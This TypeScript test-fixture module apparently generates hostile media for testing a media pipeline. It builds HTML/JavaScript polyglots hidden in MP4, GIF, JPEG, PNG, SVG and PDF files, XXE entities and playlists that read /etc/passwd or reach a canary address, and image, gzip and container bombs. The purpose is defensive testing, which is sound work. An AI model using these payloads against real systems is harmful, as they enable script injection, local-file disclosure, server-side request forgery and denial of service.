import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { givenClip, givenMedia } from './given-media.ts';

export interface Hostile {
  readonly name: string;
  readonly bytes: Buffer;
}

const text = (content: string): Buffer => Buffer.from(content, 'utf8');
const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const box = (type: string, ...content: Buffer[]): Buffer => {
  const body = Buffer.concat(content);
  return Buffer.concat([uint32(body.length + 8), text(type), body]);
};
const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([text(type), data]);
  return Buffer.concat([uint32(data.length), body, uint32(crc32(body))]);
};

/** A PNG of one grey for each pixel; the rows may be fewer than it says. */
function png(width: number, height: number, rows: Buffer, ...more: Buffer[]): Buffer {
  const header = Buffer.concat([uint32(width), uint32(height), Buffer.from([1, 0, 0, 0, 0])]);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    ...more,
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A zip with one stored file. */
function zip(name: string, content: Buffer): Buffer {
  const common = Buffer.concat([
    Buffer.from([20, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
    Buffer.from(uint32(crc32(content))).reverse(),
    Buffer.from(uint32(content.length)).reverse(),
    Buffer.from(uint32(content.length)).reverse(),
    Buffer.from([name.length, 0, 0, 0]),
  ]);
  const local = Buffer.concat([text('PK\u0003\u0004'), common, text(name), content]);
  const central = Buffer.concat([text('PK\u0001\u0002'), Buffer.from([20, 0]), common, Buffer.alloc(14), text(name)]);
  const end = Buffer.concat([text('PK\u0005\u0006'), Buffer.from([0, 0, 0, 0, 1, 0, 1, 0])]);
  const sizes = [central.length, local.length].map((size) => Buffer.from(uint32(size)).reverse());
  return Buffer.concat([local, central, end, ...sizes, Buffer.from([0, 0])]);
}

/**
 * Files that want to run in a browser, to open other files or addresses, or to eat the machine. `address`: of a server of
 * ours that must never hear of any; what runs calls `canary(name)`.
 */
export async function hostileMedia(address: string): Promise<Hostile[]> {
  const call = (name: string): string =>
    `try{top.canary('${name}')}catch(e){};try{canary('${name}')}catch(e){};new Image().src='${address}/run?${name}'`;
  const html = (name: string): string =>
    `<html><body onload="${call(name)}"><script>${call(name)}</script><img src=x onerror="${call(name)}"><iframe src="${address}/frame?${name}"></iframe></body></html>`;
  const clip = await givenClip(1, '64x48');
  const attach = ['-attach', '/etc/hostname', '-metadata:s:t', 'mimetype=text/html'];
  const title = ['-c:v', 'libx264', ...attach, '-metadata', `title=${html('mkv-title')}`];
  const attached = await givenMedia('attached.mkv', 'testsrc2=size=64x48:rate=25:duration=1', ...title);
  const still = await givenMedia('still.jpg', 'testsrc2=size=64x48', '-frames:v', '1');
  const gif = await givenMedia('still.gif', 'testsrc2=size=64x48', '-frames:v', '1');
  const ftyp = box('ftyp', text('isom'), uint32(512), text('isomiso2mp41'));
  /** The clip whose samples are said to lie in another file, and which file. */
  const dref = (kind: string, where: string): Buffer => {
    const told = clip.toString('latin1').replace('url \u0000\u0000\u0000\u0001', `${kind} \u0000\u0000\u0000\u0000`);
    return Buffer.from(told + where, 'latin1');
  };
  const playlist = (lines: string) =>
    text(`#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n${lines}\n#EXT-X-ENDLIST\n`);
  const gab2 = (content: string) => Buffer.concat([text('GAB2\u0000\u0002\u0000'), Buffer.alloc(10), text(content)]);
  const riff = (kind: string, ...parts: Buffer[]) => {
    const body = Buffer.concat([text(kind), ...parts]);
    return Buffer.concat([text('RIFF'), Buffer.from(uint32(body.length)).reverse(), body]);
  };
  const listed = (id: string, body: Buffer) =>
    Buffer.concat([text(id), Buffer.from(uint32(body.length)).reverse(), body]);
  const nested = (depth: number): Buffer => {
    let inner = box('free');
    for (let i = 0; i < depth; i++) inner = box('moov', inner);
    return inner;
  };
  const pdf = (name: string) =>
    text(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('${address}/pdf?${name}'))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
    );

  const files: Record<string, Buffer | string> = {
    // to run in a browser
    'page.mp4': html('page'),
    'page-utf16.mp4': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(html('utf16'), 'utf16le')]),
    'page-utf7.mp4': `+/v8-${html('utf7')}`,
    'xhtml.mp4': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${call('xhtml')}</script></html>`,
    'stylesheet.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${address}/sheet"?><x/>`,
    'script.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${call('svg')}"><script>${call('svg-script')}</script></svg>`,
    'foreign.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${call('foreign')}"/></body></foreignObject></svg>`,
    'entity.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${address}/entity">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>&x;&y;</text><image xlink:href="${address}/image"/></svg>`,
    'gif-is-script.gif': Buffer.concat([text('GIF89a=1;'), text(`${call('gif')}//`), gif]),
    'gif-then-page.gif': Buffer.concat([gif, text(html('gif-page'))]),
    'jpeg-with-page.jpg': Buffer.concat([
      still.subarray(0, 2),
      Buffer.from([0xff, 0xfe]),
      Buffer.from([(html('jpeg').length + 2) >> 8, (html('jpeg').length + 2) & 255]),
      text(html('jpeg')),
      still.subarray(2),
    ]),
    'jpeg-is-script.jpg': Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]),
      text(`JFIF*/=1;${call('jpeg-js')}/*`),
      still,
    ]),
    'png-with-page.png': png(
      8,
      8,
      Buffer.alloc(16),
      chunk('tEXt', Buffer.concat([text('Comment\u0000'), text(html('png'))])),
    ),
    'bmp-is-script.bmp': `BM=1;${call('bmp')}//`,
    'wav-with-page.wav': riff('WAVE', listed('fmt ', Buffer.alloc(16)), listed('LIST', text(html('wav')))),
    'flash.swf': Buffer.concat([text('CWS\u000a'), deflateSync(text(`getURL("javascript:${call('swf')}")`))]),
    'mp4-then-page.mp4': Buffer.concat([clip, text(html('mp4-after'))]),
    'ftyp-then-page.mp4': Buffer.concat([ftyp, text(html('ftyp'))]),
    'title-is-page.mp4': Buffer.concat([clip, box('udta', box('\u00a9nam', text(html('title'))))]),
    'pdf-with-script.pdf': pdf('pdf'),
    'pdf-in-mp4.mp4': Buffer.concat([ftyp, box('free', pdf('pdf-mp4')), clip.subarray(ftyp.length)]),
    'zip-in-mp4.mp4': Buffer.concat([clip, zip('run.html', text(html('zip')))]),
    'attached.mkv': attached,
    // to open other files and addresses
    'outside.mp4': dref('url', `${address}/outside`),
    'alias.mp4': dref('alis', '/etc/passwd'),
    'playlist.m3u8': playlist(`#EXTINF:10,\n${address}/segment.ts`),
    'playlist-of-files.mp4': playlist('#EXTINF:10,\nfile:///etc/passwd'),
    'playlist-concat.mp4': playlist(`#EXTINF:10,\nconcat:${address}/head.m3u8|file:///etc/passwd`),
    'playlist-key.m3u8': playlist(
      `#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"\n#EXTINF:10,\ncrypto+file:///etc/passwd`,
    ),
    'subtitles-in-avi.avi': riff(
      'AVI ',
      listed(
        'LIST',
        Buffer.concat([text('movi'), listed('01tx', gab2(playlist(`#EXTINF:10,\n${address}/gab2`).toString()))]),
      ),
    ),
    'concat.txt': `ffconcat version 1.0\nfile '${address}/concat'\nfile 'file:///etc/passwd'\n`,
    'manifest.mpd': `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${address}/dash</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    'session.sdp':
      'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
    'words.srt': '1\n00:00:00,000 --> 00:00:09,000\n<font face="file:///etc/passwd">x</font>\n',
    'words.ass': `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${'x'.repeat(2000)}\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,{\\fn${address}/font}x\n`,
    'image-list-%03d.jpg': '/etc/passwd',
    // to eat the machine
    'huge.png': png(60_000, 60_000, Buffer.alloc(100)),
    'bomb.png': png(30_000, 30_000, Buffer.alloc(((30_000 + 7) / 8 + 1) * 30_000)),
    'huge.gif': Buffer.concat([
      text('GIF89a'),
      Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]),
      gif.subarray(gif.indexOf(0x2c)),
    ]),
    'huge.jpg': Buffer.from(
      still
        .toString('latin1')
        .replace(
          '\u00ff\u00c0\u0000\u0011\u0008\u00000\u0000@',
          '\u00ff\u00c0\u0000\u0011\u0008\u00ff\u00dc\u00ff\u00dc',
        ),
      'latin1',
    ),
    'gzip-bomb.mp4': gzipSync(Buffer.alloc(50_000_000)),
    'cut.mp4': clip.subarray(0, Math.floor(clip.length * 0.6)),
    'negative.mp4': Buffer.concat([ftyp, uint32(0xffffffff), text('moov'), clip.subarray(40)]),
    'endless-box.mp4': Buffer.concat([ftyp, uint32(1), text('mdat'), Buffer.alloc(8, 0xff), clip]),
    'nested.mp4': Buffer.concat([ftyp, nested(20_000)]),
    'counted.mp4': Buffer.from(
      clip.toString('latin1').replace(/stsz.{12}/s, (found) => `${found.slice(0, 12)}\u00ff\u00ff\u00ff\u00ff`),
      'latin1',
    ),
    'noise.avi': Buffer.concat([
      text('RIFF\u00ff\u00ff\u00ff\u007fAVI LIST\u00ff\u00ff\u00ff\u00ffhdrlavih'),
      Buffer.alloc(4096, 0x41),
    ]),
  };
  return Object.entries(files).map(([name, content]) => ({
    name,
    bytes: typeof content === 'string' ? text(content) : content,
  }));
}
